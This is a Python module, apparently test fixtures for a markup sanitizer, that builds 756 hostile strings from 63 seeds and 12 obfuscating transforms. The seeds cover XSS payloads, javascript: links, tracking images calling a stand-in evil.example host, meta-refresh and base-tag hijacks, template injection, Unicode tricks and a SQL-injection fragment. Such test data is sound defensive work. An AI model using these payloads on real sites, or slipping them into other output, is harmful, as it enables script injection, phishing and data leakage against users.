"""Texts that want to become markup: scripts, handlers, images that report home, links that lie, awkward strings.

Sixty-three seeds by twelve ways to dress them, 756 in all, each with a number of its own in what it would call.
Written for this project; the kinds are those of the public sets named in SECURITY.md.
"""

from __future__ import annotations

import html
import itertools
from collections.abc import Callable
from urllib.parse import quote

EVIL = "https://evil.example"
SEEDS = (
    "<script>alert({n})</script>",
    "<script src={evil}/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    '<img src="{evil}/{n}.png">',
    "![a]({evil}/{n}.png)",
    "![a][r]\n\n[r]: {evil}/{n}.png",
    "[x](javascript:alert({n}))",
    "[採用サイト]({evil}/{n})",
    "<{evil}/{n}>",
    "{evil}/{n}",
    "<a href=javascript:alert({n})>x</a>",
    '<a href="{evil}/{n}" target=_self>公式</a>',
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert({n})'/>#x\"/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<object data={evil}/{n}></object>",
    "<embed src={evil}/{n}>",
    "<video src={evil}/{n} autoplay onloadstart=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<body onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<form action={evil}/{n}><button>送信</button></form>",
    "<button formaction=javascript:alert({n})>x</button>",
    "<meta http-equiv=refresh content='0;url={evil}/{n}'>",
    "<base href={evil}/{n}/>",
    "<link rel=stylesheet href={evil}/{n}.css>",
    "<style>@import '{evil}/{n}.css';</style>",
    "<div style=\"background:url('{evil}/{n}.png')\">x</div>",
    '<div style="position:fixed;inset:0;z-index:9999">偽の画面{n}</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><script>alert({n})</script></template>",
    "</p></div></body></html><script>alert({n})</script>",
    "'-alert({n})-'",
    '"><script>alert({n})</script>',
    '"onmouseover=alert({n}) x="',
    "' autofocus onfocus=alert({n}) '",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script>",
    "<!--<img src='--><img src=x onerror=alert({n})>'-->",
    "<%= alert({n}) %> {{{{constructor.constructor('alert({n})')()}}}} ${{alert({n})}}",
    "$$\\href{{javascript:alert({n})}}{{x}}$$ \\(\\url{{{evil}/{n}}}\\)",
    "$\\includegraphics{{{evil}/{n}.png}}$",
    "```html\n<script>alert({n})</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert({n})>]\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert({n})> | {evil}/{n} |",
    "# 見出し{n}\n**太字** `code` ~~x~~ > 引用",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "\u202e<txt.exe>{n}\u202c \u200b\u200b",
    "\x00<scr\x00ipt>alert({n})</scr\x00ipt>",
    "\ufeff＜script＞alert({n})＜/script＞",
    "Ω≈ç√∫˜µ≤≥÷ 田中さんにあげて下さい ヽ༼ຈل͜ຈ༽ﾉ 👾{n} 𝕿𝖍𝖊",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮ {n} undefined null NaN ;DROP TABLE x--",
    "<img src=x:x onerror\n=\nalert({n}) //",
    "<x onclick=alert({n}) style=display:block>押す</x>",
    '<a href="data:text/html,<script>alert({n})</script>" ping={evil}/{n}>x</a>',
)
DRESSES: tuple[Callable[[str], str], ...] = (
    lambda t: t,
    lambda t: t.upper().replace("ALERT", "alert").replace("HTTPS://EVIL.EXAMPLE", EVIL),
    html.escape,
    lambda t: html.escape(html.escape(t)),
    lambda t: f'"{t}"',
    lambda t: f"[{t}]({EVIL})",
    lambda t: f"> {t}\n\n- {t}",
    lambda t: t.replace("<", "<\t").replace("javascript:", "java\tscript:"),
    lambda t: t.replace("<", "\\<").replace("(", "\\("),
    quote,
    lambda t: t.replace("alert", "&#97;lert").replace("javascript", "&#106;avascript"),
    lambda t: f"対象は61歳未満です。{t} 詳しくは{t}",
)


def list_hostile() -> list[str]:
    """Every text, in a fixed order."""
    pairs = itertools.product(DRESSES, SEEDS)
    return [dress(seed.format(n=number, evil=EVIL)) for number, (dress, seed) in enumerate(pairs)]
